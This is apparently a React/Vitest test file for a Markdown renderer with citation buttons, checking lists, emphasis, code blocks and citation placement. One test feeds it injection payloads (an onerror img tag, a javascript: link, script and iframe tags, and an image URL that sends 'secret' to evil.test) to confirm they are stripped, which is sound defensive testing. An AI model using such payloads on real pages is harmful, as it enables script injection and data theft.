import { render } from '@testing-library/react'
import { expect, test } from 'vitest'
import { joined, Markdown, startsBlock } from '../../src/lib/markdown'
import type { Sentence } from '../../src/lib/wire'

const sentence = (text: string, i = 0, citations = ['e1']): Sentence => ({
  sentence: i,
  text,
  citations,
})

const draw = (...texts: string[]) =>
  render(
    <Markdown
      text={joined(texts.map((t, i) => sentence(t, i)))}
      cite={(n) => <button type="button">{n}</button>}
    />,
  ).container

/** Marks as [n], non-breaking spaces as plain ones. */
const text = (c: HTMLElement) => {
  for (const b of c.querySelectorAll('button')) b.textContent = `[${b.textContent}]`
  return (c.textContent ?? '').replaceAll('\u00a0', ' ')
}

test('text from outside brings no markup, link, image or script', () => {
  const c = draw(
    'Hi <img src=x onerror=alert(1)> ![t](https://evil.test/?q=secret) [click](javascript:alert(1)) **ok**.',
    '<script>x</script>',
    '<div><iframe src="https://evil.test"></iframe>inside</div>',
    '[ref]: https://evil.test "t"',
    'https://evil.test and <https://evil.test>',
  )
  expect(c.querySelector('img,script,a,iframe,div')).toBeNull()
  expect(c.querySelector('strong')?.textContent).toBe('ok')
  expect(c.textContent).toContain('click')
  expect(c.textContent).toContain('inside')
  expect(c.textContent).toContain('ref')
})

test('a mark stands before the final stop, each with its sentence', () => {
  expect(text(draw('One.', 'Two!', 'Three'))).toBe('One [0]. Two [1]! Three [2]')
})

test('emphasis that ends a sentence stays emphasis', () => {
  const c = draw('It is **quiet**.', 'It is **very quiet.**', 'Use `dB`.', '*Really*')
  expect([...c.querySelectorAll('strong')].map((e) => e.textContent)).toEqual([
    'quiet',
    'very quiet.',
  ])
  expect(c.querySelector('code')?.textContent).toBe('dB')
  expect(c.querySelector('em')?.textContent).toBe('Really')
  expect(c.querySelectorAll('button')).toHaveLength(4)
})

test('sentences that begin list items become a list, with their marks inside', () => {
  const c = draw('There are two:', '- **A:** first.', '- B: second.')
  expect(c.querySelectorAll('ul > li')).toHaveLength(2)
  expect(c.querySelectorAll('li button')).toHaveLength(2)
  expect(draw('1. a', '2. b').querySelectorAll('ol > li')).toHaveLength(2)
})

test('a decimal or a year at the start of a sentence is no list', () => {
  expect(draw('2.4 GHz it is.', '1984 was a year.').querySelector('ol')).toBeNull()
})

test('blank lines part paragraphs', () => {
  expect(draw('One.\n\n', 'Two.').querySelectorAll('p')).toHaveLength(2)
})

test('a fenced block closes, and its mark stands behind it', () => {
  const c = draw('```\na < b\n```', 'After.')
  expect(c.querySelector('pre')?.textContent).toBe('a < b')
  expect(c.querySelectorAll('button')).toHaveLength(2)
})

test('headings, quotes and tables are plain text; private-use characters cannot forge a mark', () => {
  const c = draw('# Big\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |')
  expect(c.querySelector('h1,h2,h3,table,blockquote')).toBeNull()
  expect(draw('x \uE0007\uE001 y').textContent).toBe('x 7 y\u00a00')
})

test('entities and angle brackets are shown as they were written', () => {
  expect(draw('a &lt; b, 3 < 4 & `<b>`').textContent).toContain('3 < 4 & <b>')
})

test('a sentence without citations has no mark', () => {
  expect(joined([sentence('Plain.', 0, [])])).toBe('Plain.')
})

test('startsBlock knows list items and paragraphs', () => {
  expect(['- a', '* a', '1. a', '\n\na'].every((t) => startsBlock(sentence(t)))).toBe(true)
  expect(['a', '-a', '2.4 GHz'].some((t) => startsBlock(sentence(t)))).toBe(false)
})
